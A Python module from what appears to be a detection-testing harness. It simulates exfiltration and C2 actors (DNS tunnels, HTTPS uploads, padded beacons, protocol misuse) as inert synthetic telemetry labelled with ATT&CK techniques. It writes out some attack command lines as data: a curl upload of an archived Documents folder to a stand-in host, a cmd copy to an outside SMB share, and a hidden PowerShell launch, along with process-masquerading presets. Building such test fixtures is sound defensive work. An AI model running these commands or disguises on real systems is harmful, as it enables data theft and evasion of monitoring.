"""Malicious actors. Each function adds one actor with its ATT&CK techniques and the analytics
expected to fire on it, and exposes its difficulty knobs as keyword arguments.

The payloads are inert: seeded pseudo-random bytes (or, for the low-entropy actor, text). What
matters to a detector is the shape of the activity (who sends, how much, how often, in which
protocol, on which port, after what), and that is what the knobs vary.
"""

from __future__ import annotations

import random
from collections.abc import Sequence
from dataclasses import dataclass

import numpy as np
import numpy.typing as npt

from harness.analytics import AnalyticId, TechniqueId, analytic_id, technique_id
from harness.errors import InvalidParameterError
from harness.events import NS_PER_S, AnomalyKind, AppProtocol, Transport
from harness.fields import Field
from harness.truth import ActorKind
from scenarios._util import external_ip, generator, texts
from scenarios.encodings import (
    TOOL_QTYPES,
    TunnelEncoding,
    capacity,
    chunk_stream,
    tool_chunk_size,
)
from scenarios.world import Actor, Host, Proc, World

__all__ = [
    "DISGUISES",
    "Disguise",
    "archive_then_upload",
    "disguise",
    "dns_tunnel",
    "external_smb",
    "extraneous_packets",
    "https_upload",
    "padded_beacon",
    "protocol_misuse",
    "quiet_process_exfil",
    "raw_exfil",
    "suspicious_first_seen",
]

AN0988, AN0030, AN1225 = analytic_id("AN0988"), analytic_id("AN0030"), analytic_id("AN1225")
AN0144, AN1962 = analytic_id("AN0144"), analytic_id("AN1962")


def _t(*ids: str) -> tuple[TechniqueId, ...]:
    return tuple(technique_id(i) for i in ids)


@dataclass(frozen=True, slots=True, kw_only=True)
class Disguise:
    """The process an actor runs as: its image path, command line and signature."""

    image: str
    command_line: str
    signer: str | None = None


#: Process identities a malicious actor can take (the ``disguise`` knob of every scenario).
DISGUISES = (
    "default",
    "temp-tool",
    "browser-name",
    "system-name",
    "signed-lolbin",
    "powershell",
)


def disguise(preset: str, host: Host, default: Disguise, tool: str) -> Disguise:
    """The process identity ``preset`` on ``host``: ``default`` keeps the actor's own;
    ``temp-tool`` an unsigned ``tool`` in the user's Temp folder; ``browser-name`` an unsigned
    ``chrome.exe`` in ``C:\\Users\\Public``; ``system-name`` an unsigned ``svchost.exe`` in
    ``C:\\ProgramData``; ``signed-lolbin`` the signed ``rundll32.exe`` running a DLL from
    ``C:\\Users\\Public``; ``powershell`` a hidden signed PowerShell running a script."""
    if preset == "default":
        return default
    if preset == "temp-tool":
        image = rf"C:\Users\{host.user}\AppData\Local\Temp\{tool}"
        return Disguise(image=image, command_line=image)
    if preset == "browser-name":
        image = r"C:\Users\Public\chrome.exe"
        return Disguise(image=image, command_line=f'"{image}" --type=renderer --no-sandbox')
    if preset == "system-name":
        image = r"C:\ProgramData\Microsoft\Windows\svchost.exe"
        return Disguise(image=image, command_line=f"{image} -k netsvcs")
    if preset == "signed-lolbin":
        return Disguise(
            image=r"C:\Windows\System32\rundll32.exe",
            command_line=r"rundll32.exe C:\Users\Public\msvcp.dll,Run",
            signer="Microsoft Windows",
        )
    if preset == "powershell":
        return Disguise(
            image=r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            command_line=r"powershell.exe -nop -w hidden -f C:\Users\Public\u.ps1",
            signer="Microsoft Windows",
        )
    raise InvalidParameterError("disguise", preset, "one of " + ", ".join(DISGUISES))


def _payload(rng: random.Random, n: int) -> bytes:
    return rng.randbytes(n)


def _start(world: World, actor: Actor, host: Host, start_ns: int, who: Disguise) -> Proc:
    return world.spawn(actor, host, start_ns, who.image, who.command_line, signer=who.signer)


def _read_files(world: World, actor: Actor, proc: Proc, t: int, count: int) -> int:
    """``count`` document reads 20 ms apart; returns the time after the last one."""
    folders = ("Documents", "Desktop", "Downloads")
    for i in range(count):
        world.read_file(
            actor,
            proc,
            t + i * 20_000_000,
            rf"C:\Users\{proc.host.user}\{folders[i % 3]}\file-{i:04d}.docx",
            30_000 + 1_231 * (i % 97),
        )
    return t + count * 20_000_000 + NS_PER_S


def _positive(name: str, value: float) -> None:
    if not value > 0:
        raise InvalidParameterError(name, value, "a positive number")


def _port(port: int) -> None:
    if not 1 <= port <= 65_535:
        raise InvalidParameterError("port", port, "a port number in [1, 65535]")


def _interval_and_jitter(interval_s: float, jitter: float) -> None:
    _positive("interval_s", interval_s)
    if not 0 <= jitter < 1:
        raise InvalidParameterError("jitter", jitter, "a fraction in [0, 1)")


def _gap(rng: random.Random, interval_s: float, jitter: float) -> int:
    return max(1, int(interval_s * (1 + rng.uniform(-jitter, jitter)) * NS_PER_S))


def _send_times(
    world: World, gen: np.random.Generator, t: int, interval_s: float, jitter: float, size: int
) -> npt.NDArray[np.int64]:
    """Times of up to ``size`` sends from ``t``, each :func:`_gap` after the last (drawn at
    once), stopping at the end of the recording window."""
    factor = 1 + gen.uniform(-jitter, jitter, size)
    gaps = np.maximum(1, (interval_s * factor * NS_PER_S).astype(np.int64))
    times = t + np.cumsum(gaps) - gaps
    return times[: int(np.searchsorted(times, world.env.end_ns, side="left"))]


def https_upload(
    world: World,
    rng: random.Random,
    *,
    actor_id: str,
    description: str,
    host: Host,
    start_ns: int,
    who: Disguise,
    total_bytes: int,
    chunk_bytes: int,
    interval_s: float,
    jitter: float,
    dst_name: str,
    files_read: int = 0,
    port: int = 443,
    padding_bytes: int = 0,
    techniques: Sequence[str] = ("T1041", "T1071.001"),
    expected: Sequence[AnalyticId] = (AN0144, AN1225),
) -> None:
    """Exfiltration over HTTPS by one process: optionally read ``files_read`` documents first,
    then upload ``total_bytes`` in POSTs of ``chunk_bytes`` (plus ``padding_bytes`` of junk)
    every ``interval_s`` seconds (± ``jitter`` as a fraction), each on a fresh TLS connection to
    ``port`` with a small response. Stops at the end of the recording window."""
    _positive("chunk_bytes", chunk_bytes)
    _positive("total_bytes", total_bytes)
    _interval_and_jitter(interval_s, jitter)
    _port(port)
    expect = list(expected)
    if files_read and AN0988 not in expect:
        expect.append(AN0988)
    actor = world.actor(
        actor_id, ActorKind.MALICIOUS, description, techniques=_t(*techniques), expected=expect
    )
    proc = _start(world, actor, host, start_ns, who)
    t = _read_files(world, actor, proc, start_ns + NS_PER_S, files_read)
    world.dns(actor, proc, t, dst_name, answers=(external_ip(dst_name),))
    sent, end = 0, world.env.end_ns
    while sent < total_bytes and t < end:
        size = min(chunk_bytes, total_bytes - sent)
        world.flow(
            actor,
            proc,
            t,
            dst_ip=external_ip(dst_name),
            dst_port=port,
            bytes_out=size + 600 + padding_bytes,
            bytes_in=900 + rng.randint(0, 300),
            duration_ns=max(NS_PER_S, size // 1_500_000 * NS_PER_S),
            server_name=dst_name,
        )
        sent += size
        t += _gap(rng, interval_s, jitter)


def dns_tunnel(
    world: World,
    rng: random.Random,
    *,
    actor_id: str,
    description: str,
    host: Host,
    start_ns: int,
    who: Disguise,
    encoding: TunnelEncoding,
    domain: str,
    total_bytes: int,
    queries_per_s: float,
    jitter: float = 0.5,
    qtype: str | None = None,
    chunk_bytes: int | None = None,
    via_api: bool = True,
    direct_resolver: str | None = None,
    ping_interval_s: float = 0.0,
    files_read: int = 0,
    text_payload: bool = False,
    techniques: Sequence[str] = ("T1071.004", "T1048.003"),
) -> bytes:
    """A DNS tunnel in a tool's style: the payload is cut into query names by ``encoding``
    (iodine, dnscat2, dns2tcp, DET, or low-entropy words) under ``domain`` and sent at
    ``queries_per_s``; responses carry the tool's record type with a downstream acknowledgement.

    ``via_api`` sends through the operating system's resolver (Sysmon 22 sees the process); with
    ``via_api=False`` the tool builds its own packets, to the internal resolver or, with
    ``direct_resolver``, straight to an outside server. ``ping_interval_s`` adds iodine-style
    keep-alive queries. ``chunk_bytes`` is capped at what one name can hold. Stops at the end
    of the recording window; returns the payload bytes that went out (also noted in
    :attr:`World.tunnel_payloads`), so a test can decode them back from the names.
    """
    _positive("total_bytes", total_bytes)
    _positive("queries_per_s", queries_per_s)
    _interval_and_jitter(1 / queries_per_s, jitter)
    if ping_interval_s and ping_interval_s < 0.001:
        raise InvalidParameterError("ping_interval_s", ping_interval_s, "0 (no pings) or >= 0.001")
    if qtype is not None and qtype not in TOOL_QTYPES[encoding]:
        raise InvalidParameterError(
            "qtype", qtype, f"a record type {encoding} uses: " + ", ".join(TOOL_QTYPES[encoding])
        )
    expect = [AN1225]
    if files_read:
        expect.append(AN0988)
    actor = world.actor(
        actor_id, ActorKind.MALICIOUS, description, techniques=_t(*techniques), expected=expect
    )
    proc = _start(world, actor, host, start_ns, who)
    t = _read_files(world, actor, proc, start_ns + NS_PER_S, files_read)
    if text_payload:
        words = ("report", "budget", "meeting", "client", "invoice", "quarter", "sales", "plan")
        text = " ".join(rng.choice(words) for _ in range(total_bytes // 6 + 1))
        data = text.encode()[:total_bytes]
    else:
        data = _payload(rng, total_bytes)
    size = min(chunk_bytes, capacity(encoding, domain)) if chunk_bytes else None
    size = size or tool_chunk_size(encoding, domain)
    names = chunk_stream(
        data, encoding=encoding, domain=domain, session=rng.randrange(16), chunk_size=size
    )
    rtype = qtype or TOOL_QTYPES[encoding][0]
    resolver = direct_resolver or world.env.resolver_ip
    gen = generator(rng)
    times = _send_times(world, gen, t, 1 / queries_per_s, jitter, len(names))
    sent = len(times)
    answers = texts(gen, "abcdefghijklmnopqrstuvwxyz0123456789", np.full(sent, 12))
    procs = np.full(sent, proc.index)
    world.dns_many(
        actor, procs, times, names[:sent], qtype=rtype, answers=[(a,) for a in answers],
        via_api=via_api, resolver_ip=resolver,
    )  # fmt: skip
    pings = 0
    if ping_interval_s and sent:
        # Keep-alives on their own clock, each sent before the first data query after it.
        every = int(ping_interval_s * NS_PER_S)
        first = t + every
        pings = max(0, -(-(int(times[-1]) - first) // every))
        ids = gen.integers(0, 16**6, pings).tolist()
        world.dns_many(
            actor, procs[:1].repeat(pings), first + every * np.arange(pings, dtype=np.int64),
            [f"p{x:06x}.{domain}" for x in ids], qtype=rtype, answers=("ack",),
            via_api=via_api, resolver_ip=resolver,
        )  # fmt: skip
    carried = data[: sent * size]
    world.note_tunnel_payload(actor, encoding.value, domain, carried, pings=pings)
    return carried


def quiet_process_exfil(
    world: World,
    rng: random.Random,
    *,
    actor_id: str,
    description: str,
    host: Host,
    start_ns: int,
    who: Disguise,
    channel: str,
    total_bytes: int,
    chunk_bytes: int = 250_000,
    interval_s: float = 5.0,
    jitter: float = 0.3,
    files_read: int = 120,
    port: int = 443,
    domain: str = "cdn-sync.example",
    dns_queries_per_s: float = 5.0,
) -> None:
    """A normally quiet process (a text editor, rundll32) that reads many files and then sends
    data out: over HTTPS (``channel='https'``), DNS (``'dns'``, raw socket to the resolver) or a
    custom TCP or UDP port (``'tcp'``/``'udp'`` on ``port``). AN0988's core case; without
    ``files_read`` it is no longer "following file access" and AN0988 is not expected. The DNS
    channel sends ``dns_queries_per_s`` dnscat2-style TXT queries; the others send
    ``chunk_bytes`` every ``interval_s``. Stops at the end of the recording window."""
    if channel not in ("https", "dns", "tcp", "udp"):
        raise InvalidParameterError("channel", channel, "one of https, dns, tcp, udp")
    _positive("total_bytes", total_bytes)
    _positive("chunk_bytes", chunk_bytes)
    _interval_and_jitter(interval_s, jitter)
    _positive("dns_queries_per_s", dns_queries_per_s)
    _port(port)
    expect: list[AnalyticId] = [AN1225]
    if files_read:
        expect.insert(0, AN0988)
    if channel == "https":
        expect.append(AN0144)
    if channel in ("tcp", "udp"):
        expect.append(AN0030)
    techniques = {
        "https": ("T1041", "T1071.001"),
        "dns": ("T1041", "T1071.004"),
        "tcp": ("T1041", "T1571"),
        "udp": ("T1041", "T1571"),
    }[channel]
    actor = world.actor(
        actor_id, ActorKind.MALICIOUS, description, techniques=_t(*techniques), expected=expect
    )
    proc = _start(world, actor, host, start_ns, who)
    t = _read_files(world, actor, proc, start_ns + NS_PER_S, files_read)
    end = world.env.end_ns
    if channel == "dns":
        data = _payload(rng, total_bytes)
        encoding = TunnelEncoding.DNSCAT2_HEX
        names = chunk_stream(data, encoding=encoding, domain=domain, session=rng.randrange(65_536))
        times = _send_times(world, generator(rng), t, 1 / dns_queries_per_s, jitter, len(names))
        sent = len(times)
        world.dns_many(
            actor, np.full(sent, proc.index), times, names[:sent], qtype="TXT", answers=("00",),
            via_api=False,
        )  # fmt: skip
        size = capacity(encoding, domain)
        world.note_tunnel_payload(actor, encoding.value, domain, data[: sent * size])
        return
    sent = 0
    dst = external_ip(domain)
    transport = Transport.UDP if channel == "udp" else Transport.TCP
    app = AppProtocol.TLS if channel == "https" else AppProtocol.UNKNOWN
    while sent < total_bytes and t < end:
        size = min(chunk_bytes, total_bytes - sent)
        world.flow(
            actor,
            proc,
            t,
            dst_ip=dst,
            dst_port=port,
            bytes_out=size,
            bytes_in=rng.randint(40, 400) if transport is Transport.TCP else 0,
            duration_ns=max(NS_PER_S // 2, size // 2_000_000 * NS_PER_S),
            transport=transport,
            app=app,
            server_name=domain if channel == "https" else None,
        )
        sent += size
        t += _gap(rng, interval_s, jitter)


def archive_then_upload(
    world: World,
    rng: random.Random,
    *,
    actor_id: str,
    host: Host,
    start_ns: int,
    files_read: int = 300,
    total_bytes: int = 60_000_000,
    chunk_bytes: int = 5_000_000,
    dst_name: str = "transfer.filedrop.example",
    interval_s: float = 3.0,
    jitter: float = 0.3,
    port: int = 443,
) -> None:
    """Collection and staging, then exfiltration: 7-Zip reads ``files_read`` documents into an
    archive in ``C:\\ProgramData``, then ``curl.exe`` uploads the archive over HTTPS to
    ``port`` in parts of ``chunk_bytes`` every ``interval_s`` (± ``jitter``)."""
    _positive("total_bytes", total_bytes)
    _positive("chunk_bytes", chunk_bytes)
    _interval_and_jitter(interval_s, jitter)
    _port(port)
    actor = world.actor(
        actor_id,
        ActorKind.MALICIOUS,
        "7-Zip stages documents into an archive, then curl uploads it over HTTPS",
        techniques=_t("T1560.001", "T1041", "T1567"),
        expected=(AN0988, AN0144, AN1225),
    )
    archive = r"C:\ProgramData\Microsoft\Crypto\bk.7z"
    sevenzip = world.spawn(
        actor,
        host,
        start_ns,
        r"C:\Program Files\7-Zip\7z.exe",
        rf'"C:\Program Files\7-Zip\7z.exe" a -mx9 -p {archive} C:\Users\{host.user}\Documents\*',
        signer=None,
    )
    t = _read_files(world, actor, sevenzip, start_ns + NS_PER_S, files_read)
    curl = world.spawn(
        actor,
        host,
        t,
        r"C:\Windows\System32\curl.exe",
        rf"curl.exe -k -T {archive} https://{dst_name}/u/"
        if port == 443
        else rf"curl.exe -k -T {archive} https://{dst_name}:{port}/u/",
        signer="Microsoft Windows",
    )
    world.read_file(actor, curl, t + NS_PER_S, archive, total_bytes)
    world.dns(actor, curl, t + NS_PER_S, dst_name, answers=(external_ip(dst_name),))
    sent, t, end = 0, t + 2 * NS_PER_S, world.env.end_ns
    while sent < total_bytes and t < end:
        size = min(chunk_bytes, total_bytes - sent)
        world.flow(
            actor,
            curl,
            t,
            dst_ip=external_ip(dst_name),
            dst_port=port,
            bytes_out=size,
            bytes_in=700,
            duration_ns=max(NS_PER_S, size // 3_000_000 * NS_PER_S),
            server_name=dst_name,
        )
        sent += size
        t += _gap(rng, interval_s, jitter)


def padded_beacon(
    world: World,
    rng: random.Random,
    *,
    actor_id: str,
    description: str,
    host: Host,
    start_ns: int,
    who: Disguise,
    interval_s: float = 60.0,
    jitter: float = 0.2,
    base_bytes: int = 400,
    padding_bytes: int = 20_000,
    random_padding: bool = False,
    response_bytes: int = 300,
    duration_s: float = 6 * 3600,
    port: int = 80,
    tls: bool = False,
    domain: str = "static.newsfeed.example",
) -> None:
    """An HTTP(S) C2 beacon stuffing junk into its requests: every ``interval_s`` (± jitter) a
    request of ``base_bytes`` plus ``padding_bytes`` of padding (the same size every time, or
    uniform up to twice that with ``random_padding``), answered by a small response, for
    ``duration_s``. High send/receive ratio and near-constant request sizes (T1001.001)."""
    _interval_and_jitter(interval_s, jitter)
    _positive("duration_s", duration_s)
    _port(port)
    if base_bytes < 1 or padding_bytes < 0 or response_bytes < 0:
        raise InvalidParameterError(
            "base_bytes/padding_bytes/response_bytes",
            (base_bytes, padding_bytes, response_bytes),
            "base_bytes >= 1, padding and response bytes >= 0",
        )
    actor = world.actor(
        actor_id,
        ActorKind.MALICIOUS,
        description,
        techniques=_t("T1071.001", "T1001.001", "T1573") if tls else _t("T1071.001", "T1001.001"),
        expected=(AN0030, AN1225),
    )
    proc = _start(world, actor, host, start_ns, who)
    world.dns(actor, proc, start_ns + NS_PER_S, domain, answers=(external_ip(domain),))
    t = start_ns + 2 * NS_PER_S
    end = min(start_ns + int(duration_s * NS_PER_S), world.env.end_ns)
    while t < end:
        pad = rng.randint(0, 2 * padding_bytes) if random_padding else padding_bytes
        world.flow(
            actor,
            proc,
            t,
            dst_ip=external_ip(domain),
            dst_port=port,
            bytes_out=base_bytes + pad,
            bytes_in=response_bytes + rng.randint(0, 40),
            duration_ns=NS_PER_S // 2,
            app=AppProtocol.TLS if tls else AppProtocol.HTTP,
            server_name=domain,
        )
        t += _gap(rng, interval_s, jitter)


def raw_exfil(
    world: World,
    rng: random.Random,
    *,
    actor_id: str,
    description: str,
    host: Host,
    start_ns: int,
    who: Disguise,
    transport: Transport,
    port: int,
    total_bytes: int = 80_000_000,
    chunk_bytes: int = 4_000_000,
    interval_s: float = 10.0,
    jitter: float = 0.3,
    dst_name: str = "vps-7.hosting.example",
    files_read: int = 0,
) -> None:
    """Exfiltration over a raw TCP or UDP channel on a custom port, with no application
    protocol a sensor can name (T1048, T1571); with ``files_read`` the process reads documents
    first (and AN0988 is expected too)."""
    _positive("total_bytes", total_bytes)
    _positive("chunk_bytes", chunk_bytes)
    _interval_and_jitter(interval_s, jitter)
    _port(port)
    expect = [AN0030, AN1225] + ([AN0988] if files_read else [])
    actor = world.actor(
        actor_id,
        ActorKind.MALICIOUS,
        description,
        techniques=_t("T1048", "T1571", "T1095"),
        expected=expect,
    )
    proc = _start(world, actor, host, start_ns, who)
    dst = external_ip(dst_name)
    t = start_ns + NS_PER_S
    if files_read:
        t = _read_files(world, actor, proc, t, files_read)
    sent, end = 0, world.env.end_ns
    while sent < total_bytes and t < end:
        size = min(chunk_bytes, total_bytes - sent)
        world.flow(
            actor,
            proc,
            t,
            dst_ip=dst,
            dst_port=port,
            bytes_out=size,
            bytes_in=0 if transport is Transport.UDP else rng.randint(60, 600),
            duration_ns=max(NS_PER_S, size // 2_500_000 * NS_PER_S),
            transport=transport,
            app=AppProtocol.UNKNOWN,
        )
        sent += size
        t += _gap(rng, interval_s, jitter)


def external_smb(
    world: World,
    rng: random.Random,
    *,
    actor_id: str,
    host: Host,
    start_ns: int,
    total_bytes: int = 30_000_000,
    dst_name: str = "share.fileshare-cdn.example",
    files_read: int = 40,
    chunk_bytes: int = 3_000_000,
    interval_s: float = 4.0,
    jitter: float = 0.3,
) -> None:
    """A script reads ``files_read`` documents and copies them to an SMB share on an outside
    address (TCP/445 leaving the network) in writes of ``chunk_bytes`` every ``interval_s``:
    T1048, T1071.002."""
    _positive("total_bytes", total_bytes)
    _positive("chunk_bytes", chunk_bytes)
    _interval_and_jitter(interval_s, jitter)
    actor = world.actor(
        actor_id,
        ActorKind.MALICIOUS,
        "cmd.exe copies documents to an SMB share outside",
        techniques=_t("T1048", "T1071.002"),
        expected=(AN1225,),
    )
    proc = world.spawn(
        actor,
        host,
        start_ns,
        r"C:\Windows\System32\cmd.exe",
        rf"cmd.exe /c copy C:\Users\{host.user}\Documents\*.xlsx \\{dst_name}\drop\ ",
        signer="Microsoft Windows",
    )
    t = _read_files(world, actor, proc, start_ns + NS_PER_S, files_read)
    dst = external_ip(dst_name)
    sent, end = 0, world.env.end_ns
    while sent < total_bytes and t < end:
        size = min(chunk_bytes, total_bytes - sent)
        world.flow(
            actor,
            proc,
            t,
            dst_ip=dst,
            dst_port=445,
            bytes_out=size,
            bytes_in=size // 50,
            duration_ns=2 * NS_PER_S,
            app=AppProtocol.SMB,
        )
        sent += size
        t += _gap(rng, interval_s, jitter)


_MISUSE = {
    # variant: (app protocol seen in the payload, port, transport, techniques)
    "http-on-443": (AppProtocol.HTTP, 443, Transport.TCP, ("T1071.001", "T1571")),
    "tls-on-53": (AppProtocol.TLS, 53, Transport.TCP, ("T1573", "T1571")),
    "tls-on-odd-port": (AppProtocol.TLS, 8531, Transport.TCP, ("T1573", "T1571")),
    "dns-on-odd-port": (AppProtocol.DNS, 5353, Transport.UDP, ("T1071.004", "T1571")),
}


#: Ports where each protocol belongs: on these it is not misuse.
_NATIVE_PORTS: dict[AppProtocol, tuple[int, ...]] = {
    AppProtocol.HTTP: (80, 8000, 8008, 8080),
    AppProtocol.TLS: (443, 465, 636, 853, 993, 995, 8443),
    AppProtocol.DNS: (53,),
}


def protocol_misuse(
    world: World,
    rng: random.Random,
    *,
    actor_id: str,
    host: Host,
    start_ns: int,
    who: Disguise,
    variant: str,
    sessions: int = 40,
    interval_s: float = 120.0,
    jitter: float = 0.3,
    dst_name: str = "gw.relay-node.example",
    port: int | None = None,
) -> None:
    """C2 over a protocol on a port that belongs to another: plain HTTP on 443, TLS on 53 or on
    an odd port, DNS on a non-standard port. Packet inspection names the real protocol; the port
    says otherwise (T1571). ``port`` replaces the variant's port (it must still be one that
    does not belong to the protocol)."""
    if variant not in _MISUSE:
        raise InvalidParameterError("variant", variant, "one of " + ", ".join(_MISUSE))
    app, default_port, transport, techniques = _MISUSE[variant]
    if port is None:
        port = default_port
    _port(port)
    if port in _NATIVE_PORTS[app]:
        raise InvalidParameterError(
            "port", port, f"a port that is not {app.value}'s own (not {_NATIVE_PORTS[app]})"
        )
    if sessions < 1:
        raise InvalidParameterError("sessions", sessions, "an integer >= 1")
    _interval_and_jitter(interval_s, jitter)
    what = variant.replace("-", " ")
    if port != default_port:
        what = f"{app.value} on {transport.value} port {port}"
    actor = world.actor(
        actor_id,
        ActorKind.MALICIOUS,
        f"C2 with {what}",
        techniques=_t(*techniques),
        expected=(AN1962, AN1225),
    )
    proc = _start(world, actor, host, start_ns, who)
    dst = external_ip(dst_name)
    t, end = start_ns + NS_PER_S, world.env.end_ns
    for _ in range(sessions):
        if t >= end:
            break
        sport = 49_152 + rng.randrange(16_384)
        world.flow(
            actor,
            proc,
            t,
            dst_ip=dst,
            dst_port=port,
            bytes_out=rng.randint(300, 3_000),
            bytes_in=rng.randint(200, 5_000),
            duration_ns=NS_PER_S,
            transport=transport,
            app=app,
            src_port=sport,
        )
        world.anomaly(
            actor,
            t + NS_PER_S // 2,
            host=host,
            src=(host.ip, sport),
            dst=(dst, port),
            kind=AnomalyKind.PORT_PROTOCOL_MISMATCH,
            transport=transport,
            app=app,
            detail=f"{app.value} payload on {transport.value}/{port}",
        )
        t += _gap(rng, interval_s, jitter)


def extraneous_packets(
    world: World,
    rng: random.Random,
    *,
    actor_id: str,
    host: Host,
    start_ns: int,
    kinds: Sequence[AnomalyKind] = (
        AnomalyKind.NO_HANDSHAKE,
        AnomalyKind.OUT_OF_WINDOW,
        AnomalyKind.INJECTED_RESET,
        AnomalyKind.MALFORMED_DNS,
        AnomalyKind.WRONG_DIRECTION_FIRST_DATA,
    ),
    count: int = 25,
    interval_s: float = 300.0,
    src_name: str = "scan-47.relay-node.example",
) -> None:
    """Packets that belong to no proper flow: data with no handshake (port-knock style
    signalling), segments outside the TCP window, injected resets, malformed DNS, and first data
    from the wrong side. Only packet inspection sees them (T1205, T1095)."""
    if count < 1 or not kinds:
        raise InvalidParameterError("count/kinds", (count, tuple(kinds)), "count >= 1, kinds")
    _positive("interval_s", interval_s)
    actor = world.actor(
        actor_id,
        ActorKind.MALICIOUS,
        "Extraneous and malformed packets around a victim host",
        techniques=_t("T1205", "T1095"),
        expected=(AN1962,),
        observable_with=(Field.PACKETS,),
    )
    src = external_ip(src_name)
    t, end = start_ns, world.env.end_ns
    for i in range(count):
        if t >= end:
            break
        kind = kinds[i % len(kinds)]
        dns = kind is AnomalyKind.MALFORMED_DNS
        world.anomaly(
            actor,
            t,
            host=host,
            src=(src, 53 if dns else 40_000 + rng.randrange(20_000)),
            dst=(host.ip, 53 if dns else rng.choice((443, 445, 3389, 8080))),
            kind=kind,
            transport=Transport.UDP if dns else Transport.TCP,
            app=AppProtocol.DNS if dns else AppProtocol.UNKNOWN,
            detail=kind.value.replace("_", " "),
        )
        t += _gap(rng, interval_s, 0.5)


def suspicious_first_seen(
    world: World,
    rng: random.Random,
    *,
    actor_id: str,
    host: Host,
    start_ns: int,
    connections: int = 12,
    interval_s: float = 300.0,
    jitter: float = 0.4,
    dst_name: str = "update-check.cdn-edge.example",
    port: int = 443,
    office_parent: bool = True,
) -> None:
    """A never-seen executable launched by Office (``office_parent``; otherwise by the user's
    Explorer shell) with an encoded PowerShell-style command line opens ``connections`` small
    HTTPS connections to ``port``: little volume, but everything about the process is new
    (AN1962's first-seen process)."""
    if connections < 1:
        raise InvalidParameterError("connections", connections, "an integer >= 1")
    _interval_and_jitter(interval_s, jitter)
    _port(port)
    actor = world.actor(
        actor_id,
        ActorKind.MALICIOUS,
        "First-seen process with an encoded command line, spawned by "
        + ("Word" if office_parent else "Explorer")
        + ", calls out",
        techniques=_t("T1204.002", "T1071.001", "T1027"),
        expected=(AN1962,),
        observable_with=(Field.PROCESS, Field.FLOW_PROCESS),
    )
    if office_parent:
        parent = world.spawn(
            actor,
            host,
            start_ns,
            r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
            r'"WINWORD.EXE" /n "C:\Users\Public\invoice.docm"',
            signer="Microsoft Corporation",
        )
    else:
        parent = world.spawn(
            actor,
            host,
            start_ns,
            r"C:\Windows\explorer.exe",
            r"C:\Windows\Explorer.EXE",
            signer="Microsoft Windows",
        )
    image = rf"C:\Users\{host.user}\AppData\Roaming\Microsoft\Windows\Templates\tmpl32.exe"
    enc = "".join(
        rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
        for _ in range(120)
    )
    proc = world.spawn(
        actor, host, start_ns + 3 * NS_PER_S, image, f"{image} -e {enc}", parent=parent
    )
    t, end = start_ns + 5 * NS_PER_S, world.env.end_ns
    for _ in range(connections):
        if t >= end:
            break
        world.flow(
            actor,
            proc,
            t,
            dst_ip=external_ip(dst_name),
            dst_port=port,
            bytes_out=rng.randint(600, 2_000),
            bytes_in=rng.randint(1_000, 9_000),
            server_name=dst_name,
        )
        t += _gap(rng, interval_s, jitter)
